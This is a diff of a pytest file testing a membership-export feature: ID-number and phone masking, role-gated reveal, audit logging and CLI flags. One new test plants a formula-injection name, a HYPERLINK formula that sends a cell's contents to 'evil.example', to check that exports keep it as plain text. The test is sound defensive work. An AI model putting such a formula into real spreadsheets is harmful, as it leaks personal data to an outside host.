@@ -1,4 +1,5 @@
-"""Member export: scoped, full ID numbers only when revealable, audited, and it re-imports unchanged."""
+"""Member export: scoped, masked like the pages unless revealed by a role that may reveal (and then logged as a
+reveal), audited, no formula in any cell, and a revealed export re-imports unchanged."""
 
 from __future__ import annotations
 
@@ -12,6 +13,7 @@ import pytest
 
 from conftest import make_member
 from grassroots.access.scope import Scope
+from grassroots.cli import main
 from grassroots.core import idnumber
 from grassroots.core.context import acting
 from grassroots.core.errors import RuleError
@@ -34,9 +36,9 @@ def read(path: Any) -> list[dict[str, Any]]:
     return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
 
 
-def export_as(user: Any, org: Any, path: Any) -> int:
+def export_as(user: Any, org: Any, path: Any, *, reveal: bool = True) -> int:
     with acting(user, "web"):
-        return export_members(org, path, scope=Scope(user))
+        return export_members(org, path, scope=Scope(user), reveal=reveal)
 
 
 def test_export_writes_the_scoped_subtree_with_full_numbers(cast: Any, tmp_path: Path) -> None:
@@ -53,9 +55,24 @@ def test_export_writes_the_scoped_subtree_with_full_numbers(cast: Any, tmp_path:
         "女", "大学本科", "在岗职工", "正式党员", "A")
     assert li["入党时间"].date() == cast.member.joined_on  # a real date cell
     assert by_name["赵刚"]["所在党组织"] == "B"
-    entry = AuditEntry.objects.filter(action="member.export").get()
+    entry = AuditEntry.objects.filter(action="member.export_reveal").get()  # a reveal, logged as one
     assert (entry.channel, entry.actor_name, entry.org_id) == ("web", "street_admin", cast.street.pk)
-    assert entry.changes["extra"]["count"] == 3
+    assert entry.changes["extra"]["count"] == 3 and entry.changes["extra"]["revealed"] is True
+
+
+def test_without_reveal_the_export_is_masked_like_the_page(cast: Any, tmp_path: Path) -> None:
+    path = tmp_path / "s.xlsx"
+    assert export_as(cast.auditor, cast.street, path, reveal=False) == 3  # an auditor may export, masked
+    by_name = {r["姓名"]: r for r in read(path)}
+    li = by_name["李明"]
+    assert li["身份证号"] == idnumber.mask(cast.member.id_number) == cast.member.id_number_masked
+    assert li["联系电话"] == idnumber.mask_phone(cast.member.phone)
+    cells = "\n".join(str(v) for r in by_name.values() for v in r.values())
+    for m in (cast.member, cast.member_a2, cast.member_b):
+        assert m.id_number not in cells and m.phone not in cells
+    entry = AuditEntry.objects.get(action="member.export")
+    assert entry.changes["extra"]["revealed"] is False
+    assert not AuditEntry.objects.filter(action="member.export_reveal").exists()
 
 
 def test_secretary_exports_only_her_branch(cast: Any, tmp_path: Path) -> None:
@@ -71,7 +88,7 @@ def test_secretary_exports_only_her_branch(cast: Any, tmp_path: Path) -> None:
 def test_auditor_may_not_export_full_numbers(cast: Any, tmp_path: Path) -> None:
     path = tmp_path / "s.xlsx"
     before = AuditEntry.objects.count()
-    with pytest.raises(RuleError, match="full ID numbers of 3"):
+    with pytest.raises(RuleError, match="full ID numbers and phones of 3"):
         export_as(cast.auditor, cast.street, path)
     assert not path.exists()
     assert AuditEntry.objects.count() == before
@@ -99,11 +116,57 @@ def test_export_reimports_unchanged(cast: Any, tmp_path: Path) -> None:
 
 def test_cli_export(cast: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     path = tmp_path / "a.xlsx"
-    assert cli_export(cast.branch_a, path, actor=cast.secretary) == 0
+    assert cli_export(cast.branch_a, path, actor=cast.secretary, reveal=True) == 0
     assert "exported 2 members" in capsys.readouterr().out
-    assert AuditEntry.objects.filter(action="member.export", channel="cli").count() == 1
-    assert cli_export(cast.street, tmp_path / "b.xlsx", actor=cast.auditor) == 1
+    assert AuditEntry.objects.filter(action="member.export_reveal", channel="cli").count() == 1
+    assert cli_export(cast.street, tmp_path / "b.xlsx", actor=cast.auditor, reveal=True) == 1
     assert "full ID numbers" in capsys.readouterr().err
+    assert not (tmp_path / "b.xlsx").exists()
+
+
+def test_the_cli_masks_unless_a_user_who_may_reveal_asks(cast: Any, tmp_path: Path,
+                                                         capsys: pytest.CaptureFixture[str]) -> None:
+    masked, full = tmp_path / "masked.xlsx", tmp_path / "full.xlsx"
+    # without --reveal: masked, even for the operator (no --as)
+    assert main(["export", "members", "--org", "A", str(masked)]) == 0
+    assert main(["export", "members", "--org", "A", "--as", "auditor", str(tmp_path / "m2.xlsx")]) == 0
+    for path in (masked, tmp_path / "m2.xlsx"):
+        numbers = {r["身份证号"] for r in read(path)}
+        assert cast.member.id_number not in numbers and cast.member.id_number_masked in numbers
+    assert not AuditEntry.objects.filter(action="member.export_reveal").exists()
+    # --reveal needs a named user whose role may reveal
+    assert main(["export", "members", "--org", "A", "--reveal", str(full)]) == 1
+    assert "--as" in capsys.readouterr().err
+    assert main(["export", "members", "--org", "A", "--as", "auditor", "--reveal", str(full)]) == 1
+    assert not full.exists()
+    assert main(["export", "members", "--org", "A", "--as", "secretary", "--reveal", str(full)]) == 0
+    assert cast.member.id_number in {r["身份证号"] for r in read(full)}
+    entry = AuditEntry.objects.get(action="member.export_reveal")
+    assert (entry.channel, entry.actor_name, entry.changes["extra"]["count"]) == ("cli", "secretary", 2)
+
+
+def test_a_formula_in_a_name_is_text_in_the_web_and_cli_exports(cast: Any, tmp_path: Path) -> None:
+    from django.urls import reverse
+
+    from grassroots.ui.testing import client_as
+    from grassroots.ui.tests.test_xlsx import assert_text_cells
+
+    evil = '=HYPERLINK("http://evil.example/?"&E2,"张三")'
+    with acting(None, "system"):
+        make_member(cast.branch_a, name=evil, phone="+8613800138000")
+    path = tmp_path / "a.xlsx"
+    assert main(["export", "members", "--org", "A", "--as", "secretary", "--reveal", str(path)]) == 0
+    assert_text_cells(path.read_bytes(), [evil, "+8613800138000"])
+    masked = tmp_path / "m.xlsx"
+    assert main(["export", "members", "--org", "A", str(masked)]) == 0
+    assert_text_cells(masked.read_bytes(), [evil])
+    page = client_as(cast, "street_admin").get(reverse("org-detail", args=["A"]), {"format": "xlsx"})
+    assert_text_cells(page.content, [evil])
+    # and the revealed export still re-imports as it was, the name unchanged
+    with acting(cast.secretary, "web"):
+        plan = plan_import(path, path.name)
+    assert plan.ok, plan.errors
+    assert plan.counts["unchanged"] == 3 and plan.counts["create"] == 0
 
 
 def test_template_is_an_empty_sheet_with_the_chinese_headers(cast: Any, tmp_path: Path) -> None:
